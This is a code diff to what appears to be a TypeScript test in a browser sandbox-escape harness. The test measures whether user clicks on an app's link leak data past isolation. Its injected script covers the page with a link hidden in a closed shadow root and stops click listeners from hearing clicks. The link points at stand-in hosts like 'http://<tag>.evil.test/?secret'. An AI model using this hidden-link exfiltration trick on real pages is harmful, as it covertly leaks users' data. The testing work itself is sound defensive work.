@@ -1,7 +1,7 @@
 // Ways out that ask the host page or the server, and the proof that the sinks hear everything.
 import { pause, type Stage, until } from "../arena/stage.ts";
-import type { How } from "../arena/tab.ts";
 import type { Finding, Vector } from "../arena/vector.ts";
+import type { Hit } from "../sinks/hits.ts";
 import type { Case } from "./case.ts";
 import { attempt, check, frameState, removed } from "./check.ts";
 
@@ -30,16 +30,16 @@ async function towardsHost(stage: Stage, path: string): Promise<Finding> {
 }
 
 /** What a person does to open a link of the app's in another tab. */
-export async function clickedByPerson(stage: Stage, how: How): Promise<Finding> {
-  const code = (url: string) => `
+export async function clickedByPerson(stage: Stage): Promise<Finding[]> {
+  const code = `
     const link = document.createElement("a");
-    link.href = ${JSON.stringify(url)};
     link.id = "link";
     link.textContent = "Read more";
     link.style.cssText = "position:fixed;inset:0;background:white";
     // In a closed tree nobody outside sees that it is a link, and no listener below hears of the click.
     const stop = (event) => event.stopImmediatePropagation();
     for (const type of ["click", "auxclick"]) window.addEventListener(type, stop, true);
+    window.hostileAim = (url) => { link.href = url; };
     setTimeout(() => {
       const host = document.createElement("div");
       host.id = "host";
@@ -47,23 +47,30 @@ export async function clickedByPerson(stage: Stage, how: How): Promise<Finding> 
       document.body.append(host);
       host.attachShadow({ mode: "closed" }).append(link);
     }, 300);`;
-  const [tag, controlTag] = [stage.sinks.tag(38), stage.sinks.tag(38)];
-  const url = (of: string) => `http://${of}.evil.test/?secret`;
-  const control = await stage.control(code(url(controlTag)));
-  const tab = await stage.run(code(url(tag)));
-  for (const each of [control, tab]) {
-    await pause(400);
-    await each.clickInFrame("#host", how);
+  const control = await stage.control(code);
+  const tab = await stage.run(code);
+  await pause(400);
+  const aim = (url: string) => (window as any).hostileAim(url) as void;
+  const findings: Finding[] = [];
+  for (const how of ["with Ctrl", "with Shift", "with the middle button"] as const) {
+    const [tag, controlTag] = [stage.sinks.tag(38), stage.sinks.tag(38)];
+    await control.inPage(aim, `http://${controlTag}.evil.test/?secret`);
+    await tab.inFrame(aim, `http://${tag}.evil.test/?secret`);
+    for (const each of [control, tab]) await each.clickInFrame("#host", how);
+    const arrived = await stage.sinks.hits(controlTag, 4_000);
+    const hits = await stage.sinks.hits(tag, 1_500);
+    findings.push(judged(stage, `a person's click ${how}`, hits, arrived));
+    if (hits.length === 0) await stage.sinks.sealed(tag, `38 a person's click ${how}`);
   }
-  const arrived = await stage.sinks.hits(controlTag, 4_000);
-  const hits = await stage.sinks.hits(tag, 1_500);
-  const vector = `a person's click ${how}`;
+  return findings;
+}
+
+function judged(stage: Stage, vector: string, hits: readonly Hit[], arrived: readonly Hit[]): Finding {
   // Firefox connects to a link as soon as a button is pressed on it; what it asks then is only a name.
   const ahead = stage.arena.name === "firefox" && hits.length > 0 && hits.every(({ via }) => via === "dns");
   if (ahead) return { vector, outcome: "leaked, as known", seen: "the name was looked up when the button was pressed; no request" };
   if (hits.length > 0) return { vector, outcome: "leaked", seen: hits.map(({ via, what }) => `${via} ${what}`).join(", ") };
   if (arrived.length === 0) return { vector, outcome: "failed", seen: "proves nothing: the control did not arrive" };
-  await stage.sinks.sealed(tag, `38 ${vector}`);
   return { vector, outcome: "blocked", seen: `nothing arrived; the control arrived by ${arrived[0]?.via}` };
 }
 
